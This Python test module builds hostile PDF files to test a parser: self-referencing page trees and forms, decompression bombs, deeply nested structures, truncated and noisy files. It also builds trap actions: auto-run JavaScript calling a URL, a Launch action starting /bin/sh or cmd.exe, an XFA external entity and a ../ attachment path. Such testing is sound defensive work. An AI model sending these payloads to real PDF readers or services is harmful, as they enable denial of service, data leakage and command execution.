"""Hostile PDFs: loops, bombs, traps and damage, object by object."""

from __future__ import annotations

import zlib
from collections.abc import Sequence

from tests.attacks.hostile import MEBIBYTE, HostileFile, Traps, squeezed
from tests.parsing.builders import encrypted_pdf, pdf, pdf_of

_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_SHOW = b"BT /F1 10 Tf 40 700 Td (Words on a page.) Tj ET"


def files() -> list[HostileFile]:
    """Return one of each."""
    return [*_loops(), *_bombs(), *_nested(), *_traps(), *_damaged()]


def _page(
    *,
    content: bytes = _SHOW,
    filters: bytes = b"",
    resources: bytes = b"",
    more: Sequence[bytes] = (),
    page: bytes = b"",
    catalogue: bytes = b"",
) -> bytes:
    """Return a PDF of one page: objects 1 catalogue, 2 pages, 3 font, 4 page, 5 contents, then `more` from 6 on."""
    return pdf_of(
        [
            b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalogue,
            b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
            _FONT,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 5 0 R "
            b"/Resources << /Font << /F1 3 0 R >> %s >> %s >>" % (resources, page),
            stream(content, filters),
            *more,
        ]
    )


def stream(content: bytes, about: bytes = b"") -> bytes:
    """Return a stream object with this in its dictionary."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), about, content)


def _form(content: bytes, resources: bytes) -> bytes:
    about = b"/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << %s >>" % resources
    return stream(content, about)


def _tree(*bodies: bytes) -> bytes:
    return pdf_of([b"<< /Type /Catalog /Pages 2 0 R >>", *bodies])


def _pdf(name: str, category: str, data: bytes, *, refused: bool = False) -> HostileFile:
    return HostileFile(name, category, f"{name.replace(' ', '-')}.pdf", lambda _: data, refused)


def _loops() -> list[HostileFile]:
    kids = b"<< /Type /Pages /Kids [%s] /Count 9 /Parent 2 0 R >>"
    itself = b"/XObject << /X 6 0 R >>"
    xref = pdf([["Words."]]).replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev 9")
    glyphs = b"/Font << /F1 6 0 R >>"
    type3 = b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 97 "
    type3 += (
        b"/Widths [9] /Encoding << /Differences [97 /a] >> /CharProcs << /a 7 0 R >> /Resources << %s >> >>" % glyphs
    )
    outlines = b"/Outlines << /First 6 0 R /Last 6 0 R /Count 1 >>"
    return [
        _pdf("page tree of itself", "pdf loop", _tree(kids % b"2 0 R")),
        _pdf("page trees of each other", "pdf loop", _tree(kids % b"3 0 R", kids % b"2 0 R")),
        _pdf("page that is its own parent", "pdf loop", _page(page=b"/Parent 4 0 R")),
        _pdf("length that is its own stream", "pdf loop", _page().replace(b"/Length 47", b"/Length 5 0 R")),
        _pdf("cross references that lead back", "pdf loop", xref),
        _pdf("chain of references", "pdf loop", pdf_of([b"<< /Type /Catalog /Pages 2 0 R >>", *(b"%d 0 R" % (n + 3) for n in range(50_000))])),
        _pdf("form that draws itself", "pdf loop", _page(content=b"/X Do", resources=itself, more=[_form(b"/X Do", itself)])),
        _pdf("glyph that shows itself", "pdf loop", _page(content=b"BT /F1 9 Tf (a) Tj ET", resources=glyphs, more=[type3, stream(b"9 0 d0 BT /F1 9 Tf (a) Tj ET")])),
        _pdf("outline that leads back", "pdf loop", _page(catalogue=outlines, more=[b"<< /Title (a) /Next 6 0 R /First 6 0 R >>"])),
        _pdf("names that hold themselves", "pdf loop", _page(catalogue=b"/Names << /Dests 6 0 R >>", more=[b"<< /Kids [6 0 R] >>"])),
        _pdf("structure that holds itself", "pdf loop", _page(catalogue=b"/StructTreeRoot 6 0 R /MarkInfo << /Marked true >>", more=[b"<< /Type /StructTreeRoot /K 6 0 R >>"])),
        _pdf("object stream in itself", "pdf loop", _page(more=[stream(b"6 0 << >>", b"/Type /ObjStm /N 1 /First 4 /Extends 6 0 R")])),
    ]  # fmt: skip


def _bombs() -> list[HostileFile]:
    flate = b"/Filter /FlateDecode"
    shown = squeezed(b"BT /F1 9 Tf (lol) Tj ET\n" * 4096, 1500).zlib
    thrice = zlib.compress(zlib.compress(squeezed(bytes(MEBIBYTE), 300).zlib, 9), 9)
    laughs = [
        _form(b"/X Do " * 10, b"/XObject << /X %d 0 R >>" % (7 + level)) if level < 9 else _form(_SHOW, b"")
        for level in range(10)
    ]
    image = b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceRGB /BitsPerComponent 8 "
    huge = image % (100_000, 100_000)
    cmap = b"/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <0000> <ffff> endcodespacerange "
    cmap += b"100 beginbfrange " + b"<0000> <ffff> <0041> " * 100_000 + b"endbfrange endcmap"
    composite = b"/Font << /F1 << /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /ToUnicode 6 0 R >> >>"
    many = pdf_of([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [%s] /Count 100000 >>" % (b"3 0 R " * 100_000), b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"])  # fmt: skip
    return [
        _pdf("content of 150 megabytes", "pdf bomb", _page(content=shown, filters=flate), refused=True),
        _pdf("stream packed three times", "pdf bomb", _page(content=thrice, filters=b"/Filter [/FlateDecode /FlateDecode /FlateDecode]")),
        _pdf("forms that laugh a billion times", "pdf bomb", _page(content=b"/X Do", resources=b"/XObject << /X 6 0 R >>", more=laughs)),
        _pdf("picture of 30 gigabytes", "pdf bomb", _page(content=b"/X Do", resources=b"/XObject << /X 6 0 R >>", more=[stream(squeezed(bytes(MEBIBYTE), 50).zlib, huge + flate)])),
        _pdf("fax of 30 gigabytes", "pdf bomb", _page(content=b"/X Do", resources=b"/XObject << /X 6 0 R >>", more=[stream(b"\0" * 99, huge + b"/Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 2000000000 /Rows 2000000000 >>")])),
        _pdf("run lengths", "pdf bomb", _page(content=b"\x81a" * MEBIBYTE, filters=b"/Filter /RunLengthDecode")),
        _pdf("predictor of 2 gigabytes a row", "pdf bomb", _page(content=zlib.compress(b"a" * 1000), filters=flate + b" /DecodeParms << /Predictor 15 /Columns 2147483647 /Colors 32 /BitsPerComponent 16 >>")),
        _pdf("billion pages declared", "pdf bomb", _page().replace(b"/Count 1", b"/Count 1000000000")),
        _pdf("one page a hundred thousand times", "pdf bomb", many, refused=True),
        _pdf("characters without end", "pdf bomb", _page(resources=composite, more=[stream(cmap)])),
        _pdf("page of a billion points", "pdf bomb", _page(page=b"/MediaBox [0 0 1000000000 1000000000] /UserUnit 75000")),
    ]  # fmt: skip


def _nested() -> list[HostileFile]:
    deep = 200_000
    return [
        _pdf("deep arrays", "pdf nesting", _page(page=b"/A " + b"[" * deep + b"]" * deep)),
        _pdf("deep dictionaries", "pdf nesting", _page(page=b"/A " + b"<< /A " * deep + b">>" * deep)),
        _pdf("deep parentheses", "pdf nesting", _page(content=b"BT /F1 9 Tf " + b"(" * 10**6 + b")" * 10**6 + b" Tj ET")),
        _pdf("deep graphics states", "pdf nesting", _page(content=b"q " * 10**6 + _SHOW)),
        _pdf("arrays never closed", "pdf nesting", b"%PDF-1.7\n" + b"[" * 5 * MEBIBYTE),
        _pdf("comment of ten megabytes", "pdf nesting", _page().replace(b"%PDF-1.4\n", b"%PDF-1.4\n" + b"%" * 10 * MEBIBYTE + b"\n")),
    ]  # fmt: skip


def _traps() -> list[HostileFile]:
    def leading(name: str, action: bytes, *, page: bytes = b"") -> HostileFile:
        def make(traps: Traps) -> bytes:
            words = {b"%URL": traps.address.encode(), b"%FILE": str(traps.kept).encode()}
            filled = [action, page]
            for word, value in words.items():
                filled = [each.replace(word, value) for each in filled]
            return _page(catalogue=filled[0], page=filled[1])

        return HostileFile(name, "pdf trap", f"{name.replace(' ', '-')}.pdf", make)

    xfa = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "%URL">]><xdp:xdp xmlns:xdp="x">&e;</xdp:xdp>'
    return [
        leading("script that calls", b"/OpenAction << /S /JavaScript /JS (app.launchURL\\('%URL'\\); this.submitForm\\('%URL'\\)) >>"),
        leading("link that opens", b"/OpenAction << /S /URI /URI (%URL) >>"),
        leading("program that starts", b"/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>"),
        leading("form that sends itself", b"/AcroForm << /Fields [] >> /OpenAction << /S /SubmitForm /F (%URL) /Flags 4 >>"),
        leading("page of another file", b"/OpenAction << /S /GoToR /F (%FILE) /D [0 /Fit] >>"),
        leading("contents kept elsewhere", b"", page=b"/Contents << /Length 0 /F << /FS /URL /F (%URL) >> >>"),
        leading("contents kept in our file", b"", page=b"/Contents << /Length 0 /F (%FILE) >>"),
        leading("form of entities", b"/AcroForm << /XFA (" + xfa.replace(b"(", b"\\(") + b") /Fields [] >>"),
        leading("attachment out of its folder", b"/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (../../kept) >>] >> >>"),
    ]  # fmt: skip


def _damaged() -> list[HostileFile]:
    whole = pdf([["Words on a page."]] * 20)
    cuts = [
        _pdf(f"cut after {share} percent", "truncated", whole[: len(whole) * share // 100])
        for share in (1, 10, 25, 50, 75, 90, 99)
    ]
    font = b"/Font << /F1 << /Type /Font /Subtype /TrueType /BaseFont /A /FontDescriptor << /FontFile2 6 0 R >> >> >>"
    picture = b"/Type /XObject /Subtype /Image /Width 9000 /Height 9000 /ColorSpace /DeviceGray /BitsPerComponent 1 "
    noise = bytes(index * index % 251 for index in range(20_000))
    drawn = b"/XObject << /X 6 0 R >>"
    return [
        *cuts,
        _pdf("password", "encrypted", encrypted_pdf(), refused=True),
        _pdf("font of noise", "damaged", _page(resources=font, more=[stream(b"\0\1\0\0" + noise)])),
        _pdf("picture of noise in JPEG 2000", "damaged", _page(content=b"/X Do", resources=drawn, more=[stream(b"\xff\x4f\xff\x51" + noise, picture + b"/Filter /JPXDecode")])),
        _pdf("picture of noise in JBIG2", "damaged", _page(content=b"/X Do", resources=drawn, more=[stream(noise, picture + b"/Filter /JBIG2Decode")])),
        _pdf("noise in LZW", "damaged", _page(content=noise, filters=b"/Filter /LZWDecode")),
        _pdf("length below zero", "damaged", _page().replace(b"/Length 47", b"/Length -9")),
        _pdf("two billion objects", "damaged", _page().replace(b"/Size 6", b"/Size 2147483647")),
        _pdf("offsets past the end", "damaged", _page().replace(b"startxref\n", b"startxref\n99999999")),
        _pdf("nothing but a header", "damaged", b"%PDF-1.7\n", refused=True),
    ]  # fmt: skip
